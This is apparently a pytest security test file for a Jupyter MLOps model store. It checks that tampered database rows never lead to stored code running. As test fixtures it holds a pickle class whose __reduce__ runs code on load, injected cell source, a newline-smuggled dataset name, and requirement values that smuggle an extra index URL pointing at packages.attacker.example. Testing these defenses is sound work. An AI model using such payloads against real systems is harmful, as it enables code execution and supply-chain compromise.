"""R14: nothing from the store runs as code unless this user signed it.

A signed store is built from a real captured session: version 1 of ``clf`` is an old model
the user registered and signed (unpickling it creates a marker file: proof the old, bad
model was loaded), version 2 is fitted in a ``%%track`` cell from a relative
``train.pkl``, registered as ``clf@champion`` and replayable. Then each row that decides
what runs is changed by plain SQL, as anyone who can write the store could: a cell's
source, the session's folder, the version's link to its cell, a dataset name holding a
newline, the library versions exports write as requirements, the alias, the version's
digest. Every entry point refuses, and neither marker file is ever created.
"""

from __future__ import annotations

import ast
import json
import logging
import os
import pickle
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest

import jupyter_mlops as mlops
from jupyter_mlops.registry.replay import verify_replay
from jupyter_mlops.store import signing
from jupyter_mlops.serving.deployment import load_served
from jupyter_mlops.store import Store

pytestmark = [pytest.mark.reliability, pytest.mark.timeout(300)]


class Planted:
    """Unpickling this creates ``marker``: proof that code from the store ran."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (open, (str(self.marker), "w"))


SESSION = [
    "import numpy as np\nimport pandas as pd\nfrom sklearn.linear_model import LogisticRegression",
    "X, y = pd.read_pickle('train.pkl')",
    "%%track -n fit\nmodel = LogisticRegression(C=0.5).fit(X, y)",
]


class Signed:
    """The signed store of one test, and the paths an attack would leave its mark at."""

    def __init__(self, store: Store, tmp_path: Path):
        self.store = store
        self.tmp = tmp_path
        self.marker = tmp_path / "planted-code-ran"
        self.old_model_marker = tmp_path / "old-bad-model-loaded"
        self.attacker = tmp_path / "attacker"
        self.attacker.mkdir()

    def sql(self, statement: str, params=()) -> None:
        with self.store.write() as conn:
            conn.execute(statement, params)

    def one(self, statement: str, params=()):
        return self.store.query(statement, params)[0]

    def planted_digest(self) -> str:
        return self.store.artifacts.put_bytes(pickle.dumps(Planted(self.marker)))[0]

    def no_marker(self) -> None:
        assert not self.marker.exists(), "code planted in the store ran"
        assert not self.old_model_marker.exists(), "the old, bad model was loaded"


@pytest.fixture
def signed(shell, store, tmp_path, monkeypatch):
    from support import run_cell

    work = tmp_path / "work"
    work.mkdir()
    rng = np.random.default_rng(5)
    X = rng.normal(size=(150, 4))
    pickle.dump((X, (X[:, 0] - X[:, 2] > 0).astype(int)), (work / "train.pkl").open("wb"))
    monkeypatch.chdir(work)  # the session records this folder; replay runs there
    state = Signed(store, tmp_path)
    assert mlops.register_model(Planted(state.old_model_marker), "clf").version == 1
    for source in SESSION:
        assert run_cell(shell, source).success, source
    version = shell.run_line_magic("mlops", "register clf --alias champion")
    assert (version.version, version.aliases, version.variable) == (2, ["champion"], "model")
    assert version.reference_sha256 is not None and version.cell is not None
    monkeypatch.chdir(tmp_path)
    return state


def _cli(store: Store, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "jupyter_mlops.cli", *args, "--store",
                           str(store.path)], capture_output=True, text=True, timeout=120,
                          check=False, env=dict(os.environ))


def _refused_by_cli(done: subprocess.CompletedProcess) -> str:
    assert done.returncode != 0, done.stdout
    assert "Traceback" not in done.stderr and done.stderr.count("\n") == 1, done.stderr
    return done.stderr


# -- the unchanged store works: the refusals below are about the planted rows ---------------


def test_a_signed_store_loads_serves_exports_and_replays(signed, tmp_path):
    assert mlops.load_model("clf@champion").predict(np.zeros((1, 4))).shape == (1,)
    assert mlops.reference_sample("clf@champion") is not None
    script = mlops.replay("clf@champion", verify=True)
    assert script.verification.ok, script.verification.message
    mlops.export_mlflow("clf@champion", tmp_path / "exported")
    requirements = (tmp_path / "exported" / "requirements.txt").read_text().splitlines()
    # From the signed environment of the session that fitted it, each pinned.
    assert requirements[0].startswith("scikit-learn==")
    assert any(line.startswith("numpy==") for line in requirements)
    assert all("==" in line for line in requirements)
    server = mlops.serve("clf@champion", port=0, watch_interval=None)
    server.stop()
    signed.no_marker()


# -- every entry point, against each planted row -------------------------------------------


def _entry_points(tmp_path: Path, store: Store):
    counter = iter(range(1000))
    return {
        "load_model by alias": lambda: mlops.load_model("clf@champion"),
        "load_model by version": lambda: mlops.load_model("clf/2"),
        "load_model latest": lambda: mlops.load_model("clf"),
        "reference_sample": lambda: mlops.reference_sample("clf@champion"),
        "export_mlflow": lambda: mlops.export_mlflow("clf@champion",
                                                     tmp_path / f"export-{next(counter)}"),
        "replay(verify=True)": lambda: mlops.replay("clf@champion", verify=True),
        "model server (load_served)": lambda: load_served("clf@champion", store),
        "serve": lambda: mlops.serve("clf@champion", port=0, watch_interval=None).stop(),
    }


def _plant_alias(s: Signed) -> None:
    # The alias moved to the old, signed version; its signature left as it was.
    s.sql("UPDATE aliases SET version = 1 WHERE name = 'clf' AND alias = 'champion'")


def _plant_unsigned_alias(s: Signed) -> None:
    # ... or written as an older jupyter_mlops would have written it: no signature at all.
    s.sql("UPDATE aliases SET version = 1, hmac = NULL WHERE name = 'clf'")


def _plant_version_digest(s: Signed) -> None:
    # Version 2 now names the old model's bytes (signed by the user, as pickled bytes);
    # version 1's row goes, as one name holds given bytes once.
    sha, size = s.one("SELECT sha256, size FROM model_versions WHERE version = 1")
    s.sql("DELETE FROM model_versions WHERE version = 1")
    s.sql("UPDATE model_versions SET sha256 = ?, size = ? WHERE version = 2", (sha, size))


def _plant_new_latest_version(s: Signed) -> None:
    # A version 3 row without a signature, pointing at the old model's bytes, as an
    # older jupyter_mlops would have written it.
    s.sql("UPDATE model_versions SET version = 3, hmac = NULL WHERE version = 1")
    s.sql("UPDATE aliases SET version = 3, hmac = NULL WHERE name = 'clf'")


def _plant_cell_source(s: Signed) -> None:
    cell, source = s.one("SELECT id, source FROM cells WHERE source LIKE 'X, y = %'")
    code = f"open({str(s.marker)!r}, 'w').close()\n"
    s.sql("UPDATE cells SET source = ? WHERE id = ?", (code + source, cell))


def _plant_session_cwd(s: Signed) -> None:
    # The session's folder is the attacker's, where train.pkl runs their code.
    (s.attacker / "train.pkl").write_bytes(pickle.dumps(Planted(s.marker)))
    s.sql("UPDATE sessions SET cwd = ?", (str(s.attacker),))


def _plant_cell_link(s: Signed) -> None:
    # A cell of the attacker's, in a session of the attacker's, becomes the version's cell.
    s.sql("INSERT INTO sessions (session_id, started, cwd) VALUES ('evil', 0, ?)",
          (str(s.attacker),))
    code = (f"open({str(s.marker)!r}, 'w').close()\n"
            "from sklearn.dummy import DummyClassifier\nmodel = DummyClassifier()")
    s.sql("INSERT INTO cells (session_id, execution_count, source, defined, used, started, "
          "status) VALUES ('evil', 1, ?, '[\"model\"]', '[]', 0, 'ok')", (code,))
    (cell,) = s.one("SELECT max(id) FROM cells")
    s.sql("UPDATE model_versions SET cell = ? WHERE version = 2", (cell,))


def _newline_dataset(s: Signed) -> str:
    (datasets,) = s.one("SELECT datasets FROM model_versions WHERE version = 2")
    datasets = json.loads(datasets)
    datasets[0]["name"] = f"X\nopen({str(s.marker)!r}, 'w').close()\n#"
    return json.dumps(datasets)


def _plant_dataset_name(s: Signed) -> None:
    s.sql("UPDATE model_versions SET datasets = ? WHERE version = 2", (_newline_dataset(s),))


BAD_REQUIREMENT = "1.5.0\n--extra-index-url https://packages.attacker.example/simple"


def _plant_requirements(s: Signed) -> None:
    (versions,) = s.one("SELECT library_versions FROM model_versions WHERE version = 2")
    versions = dict(json.loads(versions), sklearn=BAD_REQUIREMENT)
    s.sql("UPDATE model_versions SET library_versions = ? WHERE version = 2",
          (json.dumps(versions),))


ALIAS_ENTRIES = ["load_model by alias", "reference_sample", "export_mlflow",
                 "replay(verify=True)", "model server (load_served)", "serve"]
EVERY_ENTRY = ["load_model by version", *ALIAS_ENTRIES]
PLANTS = {
    "alias row": (_plant_alias, ALIAS_ENTRIES, ["export", "clf@champion"]),
    "alias row, unsigned": (_plant_unsigned_alias, ALIAS_ENTRIES, ["export", "clf@champion"]),
    "version->digest row": (_plant_version_digest, EVERY_ENTRY, ["export", "clf/2"]),
    "new latest version row": (_plant_new_latest_version, ["load_model latest", *ALIAS_ENTRIES],
                               ["export", "clf"]),
    "cell source": (_plant_cell_source, ["replay(verify=True)"], ["replay", "clf/2", "--verify"]),
    "session cwd": (_plant_session_cwd, ["replay(verify=True)"], ["replay", "clf/2", "--verify"]),
    "version->cell link": (_plant_cell_link, ["replay(verify=True)"],
                           ["replay", "clf/2", "--verify"]),
    "dataset name with a newline": (_plant_dataset_name, ["replay(verify=True)"],
                                    ["replay", "clf/2", "--verify"]),
    "requirement rows": (_plant_requirements, ["export_mlflow", "load_model by version"],
                         ["export", "clf/2"]),
}


@pytest.mark.parametrize("planted", list(PLANTS))
def test_every_entry_point_refuses_a_planted_row(signed, tmp_path, planted):
    plant, entries, cli = PLANTS[planted]
    plant(signed)
    attempts = _entry_points(tmp_path, signed.store)
    for entry in entries:
        with pytest.raises(mlops.UntrustedPickleError) as caught:
            attempts[entry]()
        message = str(caught.value)
        assert "\n" not in message, (entry, message)
        if isinstance(caught.value, mlops.TamperedError):
            assert "tampering" in message and "trust_model" not in message, (entry, message)
        else:
            assert "trust_model" in message or "set_alias" in message, (entry, message)
        signed.no_marker()
    if cli[0] == "export":
        cli = [*cli, str(tmp_path / "cli-export")]
    _refused_by_cli(_cli(signed.store, *cli))
    assert not (tmp_path / "cli-export").exists()
    assert not any(tmp_path.glob("export-*"))
    signed.no_marker()


def test_a_running_server_does_not_follow_a_planted_alias(signed, caplog):
    import http.client

    server = mlops.serve("clf@champion", port=0, watch_interval=0.1)
    try:
        _plant_alias(signed)
        caplog.set_level(logging.WARNING, logger="jupyter_mlops.serving")
        deadline = time.monotonic() + 30
        while not (checks := [r.getMessage() for r in caplog.records
                              if "Checking the aliases" in r.getMessage()]):
            assert time.monotonic() < deadline, "the alias watcher never ran"
            time.sleep(0.05)
        signed.no_marker()
        assert "tampering" in checks[0], checks[0]
        host, port = server.url.split("//")[1].split(":")
        conn = http.client.HTTPConnection(host, int(port), timeout=30)
        conn.request("POST", "/invocations", json.dumps({"instances": [[0, 0, 0, 0]]}),
                     {"Content-Type": "application/json"})
        response = conn.getresponse()
        response.read()
        assert response.status == 200 and response.getheader("X-Model-Version") == "clf/2"
        conn.close()
    finally:
        server.stop()
    signed.no_marker()


# -- replay never turns stored text into code lines -----------------------------------------


def test_a_newline_in_a_dataset_name_stays_inside_its_comment(signed):
    _plant_dataset_name(signed)
    script = mlops.replay("clf/2")  # printing the script is allowed; running it is not
    strings = {node.value for node in ast.walk(ast.parse(script.source))
               if isinstance(node, ast.Constant) and isinstance(node.value, str)}
    assert str(signed.marker) not in strings
    assert "# Data: X\\nopen(" in script.source
    signed.no_marker()


def test_a_script_changed_after_it_was_cut_is_not_run(signed):
    script = mlops.replay("clf/2")
    script.source += f"\nopen({str(signed.marker)!r}, 'w').close()\n"
    with pytest.raises(mlops.TamperedError, match="tampering"):
        verify_replay(script)
    signed.no_marker()


# -- exports write only PEP 440 versions and PEP 508 names ----------------------------------


@pytest.mark.parametrize("value", [
    BAD_REQUIREMENT, "1.0\n", " 1.0", "1.0 ; os_name == 'nt'", "==1.0", "1.0 --hash=x",
    "1.0\r-e git+https://x", "latest", "", None, 1.5, ["1.0"], "1.0#", "١.٠",
])
def test_a_version_that_is_not_pep440_is_refused(value):
    from jupyter_mlops.registry.export import pep440

    with pytest.raises(mlops.ValidationError, match="PEP 440"):
        pep440(value, "numpy version")


def test_versions_are_written_normalized_and_names_checked():
    from jupyter_mlops.registry.export import pep440, requirement

    assert pep440("1.5.0", "x") == "1.5.0"
    assert pep440("2.0.0rc1", "x") == "2.0.0rc1"
    assert pep440("1.0.POST2", "x") == "1.0.post2"
    assert requirement("scikit-learn", "1.5.0") == "scikit-learn==1.5.0"
    for name in ("scikit-learn\n-e x", "-e", "numpy==1", "", "a b"):
        with pytest.raises(mlops.ValidationError, match="PEP 508"):
            requirement(name, "1.0")


def test_export_refuses_bad_requirements_even_when_the_store_is_trusted(signed, tmp_path):
    _plant_requirements(signed)
    with pytest.raises(mlops.ValidationError, match="PEP 440"):
        mlops.export_mlflow("clf/2", tmp_path / "out", allow_pickle=True)
    assert not (tmp_path / "out").exists() and not list(tmp_path.glob(".out.partial-*"))


# -- trust_model vouches only for what is new, and never for tampering ----------------------


@pytest.mark.parametrize("unsigned_row", [False, True])
def test_trust_model_refuses_a_swapped_reference_sample(signed, capsys, unsigned_row):
    digest = signed.planted_digest()
    signed.sql("UPDATE model_versions SET reference_sha256 = ? WHERE version = 2", (digest,))
    if unsigned_row:  # the attacker also removed the row's signature, like an old store
        signed.sql("UPDATE model_versions SET hmac = NULL WHERE version = 2")
    before = signed.store.query("SELECT * FROM signatures ORDER BY sha256")
    for attempt in (lambda: mlops.trust_model("clf/2"), lambda: mlops.trust_model("clf@champion"),
                    lambda: mlops.reference_sample("clf/2"),
                    lambda: mlops.drift_report(current=np.zeros((5, 4)), model_uri="clf/2")):
        with pytest.raises(mlops.TamperedError) as caught:
            attempt()
        message = str(caught.value)
        assert "tampering" in message and "reference sample" in message
        assert "trust_model" not in message and "trust " not in message
    assert signed.store.query("SELECT * FROM signatures ORDER BY sha256") == before
    assert signed.store.signature(digest) is None
    _refused_by_cli(_cli(signed.store, "trust", "clf/2"))
    assert signed.store.signature(digest) is None
    signed.no_marker()


@pytest.mark.parametrize("plant", [_plant_alias, _plant_unsigned_alias])
def test_trust_model_refuses_a_moved_alias(signed, plant):
    # Unsigned is no excuse: version 1 was registered since aliases are signed, so no older
    # jupyter_mlops can have pointed an alias at it.
    plant(signed)
    for attempt in (lambda: mlops.trust_model("clf@champion"),
                    lambda: mlops.load_model("clf@champion")):
        with pytest.raises(mlops.TamperedError, match="tampering") as caught:
            attempt()
        assert "set_alias" in str(caught.value) and "trust_model" not in str(caught.value)
    assert signed.one("SELECT version FROM aliases WHERE name = 'clf'") == (1,)
    mlops.set_alias("clf", 2, "champion")  # the user's own act puts it back
    assert mlops.get_model_version("clf@champion").version == 2


def test_an_older_store_is_vouched_for_once_showing_nothing_new(signed, capsys):
    """A store made before rows were signed: its bytes are the user's, its rows unsigned."""
    signed.sql("UPDATE model_versions SET hmac = NULL, replay_sha256 = NULL, "
               "replay_hmac = NULL")
    signed.sql("UPDATE aliases SET hmac = NULL")
    with pytest.raises(mlops.UntrustedRecordError, match=r"trust_model\('clf/2'\)"):
        mlops.load_model("clf/2")
    with pytest.raises(mlops.UntrustedRecordError, match="set_alias"):
        mlops.load_model("clf@champion")
    mlops.trust_model("clf/1")  # vouching never unpickles: the old model's code never runs
    # an old row numbered after a vouched one is still just old, not tampered with
    with pytest.raises(mlops.UntrustedRecordError, match=r"trust_model\('clf/2'\)") as caught:
        mlops.load_model("clf/2")
    assert not isinstance(caught.value, mlops.TamperedError)
    capsys.readouterr()
    mlops.trust_model("clf/2")  # the version alone: its alias still asks, calmly
    assert "alias" not in capsys.readouterr().out
    with pytest.raises(mlops.UntrustedRecordError, match="set_alias") as caught:
        mlops.load_model("clf@champion")
    assert not isinstance(caught.value, mlops.TamperedError)
    mlops.trust_model("clf@champion")
    shown = capsys.readouterr().out
    assert "NEW" not in shown and shown.count("already signed by you") == 2
    assert "alias @champion" in shown and "the version's row" not in shown
    assert mlops.load_model("clf@champion").predict(np.zeros((1, 4))).shape == (1,)
    assert mlops.replay("clf@champion", verify=True).verification.ok
    mlops.trust_model("clf@champion")
    assert "nothing was signed" in capsys.readouterr().out
    signed.no_marker()


def test_another_users_store_shows_every_digest_as_new(signed, capsys, tmp_path, monkeypatch):
    monkeypatch.setenv(signing.KEY_FILE_ENV, str(tmp_path / "me" / "key"))
    signing._keys.clear()
    try:
        with pytest.raises(mlops.UntrustedPickleError) as caught:
            mlops.load_model("clf@champion")
        assert not isinstance(caught.value, mlops.TamperedError)
        capsys.readouterr()
        mlops.trust_model("clf@champion")
        shown = capsys.readouterr().out
        assert shown.count("NEW to your key") == 2, shown
        assert mlops.load_model("clf@champion").predict(np.zeros((1, 4))).shape == (1,)
        # the old version 1 was not vouched for: it still needs its own decision
        with pytest.raises(mlops.UntrustedPickleError):
            mlops.load_model("clf/1")
    finally:
        signing._keys.clear()
    signed.no_marker()


def test_signatures_of_one_kind_never_stand_for_another(signed):
    (alias_hmac,) = signed.one("SELECT hmac FROM aliases WHERE name = 'clf'")
    (row_hmac,) = signed.one("SELECT hmac FROM model_versions WHERE version = 2")
    # The row's signature copied onto the alias, and a pickle signature onto the row.
    signed.sql("UPDATE aliases SET hmac = ?", (row_hmac,))
    with pytest.raises(mlops.UntrustedPickleError):
        mlops.load_model("clf@champion")
    signed.sql("UPDATE aliases SET hmac = ?", (alias_hmac,))
    (sha,) = signed.one("SELECT sha256 FROM model_versions WHERE version = 2")
    signed.sql("UPDATE model_versions SET hmac = ? WHERE version = 2",
               (signed.store.signature(sha),))
    with pytest.raises(mlops.UntrustedPickleError):
        mlops.load_model("clf/2")
    signed.no_marker()


# -- the gate reads a large file once, hashing as it reads ----------------------------------


def test_a_large_model_is_hashed_as_it_is_read_and_a_changed_byte_refused(store, tmp_path):
    from jupyter_mlops.store import serialize

    big = np.arange(3_000_000, dtype=np.float64)  # 24 MB: read by chunks, hashed by a thread
    assert big.nbytes > serialize._OVERLAP_FROM
    version = mlops.register_model(big, "big")
    np.testing.assert_array_equal(mlops.load_model("big/1"), big)
    path = store.artifacts.path_for(version.sha256)
    raw = bytearray(path.read_bytes())
    raw[-100] ^= 0x01  # in the last chunk
    path.write_bytes(bytes(raw))
    with pytest.raises(mlops.IntegrityError, match="changed after it was stored"):
        mlops.load_model("big/1")
    path.write_bytes(bytes(raw[:-1]))
    with pytest.raises(mlops.IntegrityError, match="holds"):
        mlops.load_model("big/1")


def test_the_cli_vouches_for_an_older_store_and_shows_what_it_signed(signed):
    signed.sql("UPDATE model_versions SET hmac = NULL, replay_sha256 = NULL, "
               "replay_hmac = NULL")
    signed.sql("UPDATE aliases SET hmac = NULL")
    refused = _refused_by_cli(_cli(signed.store, "export", "clf@champion",
                                   str(signed.tmp / "out")))
    assert "set_alias" in refused and "trust" in refused
    done = _cli(signed.store, "trust", "clf@champion", "clf/1")
    assert done.returncode == 0, done.stderr
    assert "replay script" in done.stdout and "alias @champion -> version 2" in done.stdout
    assert "NEW" not in done.stdout and done.stdout.count("now loads") == 2
    assert mlops.load_model("clf@champion").predict(np.zeros((1, 4))).shape == (1,)
    signed.no_marker()  # vouching never unpickles (version 1 is the old model)
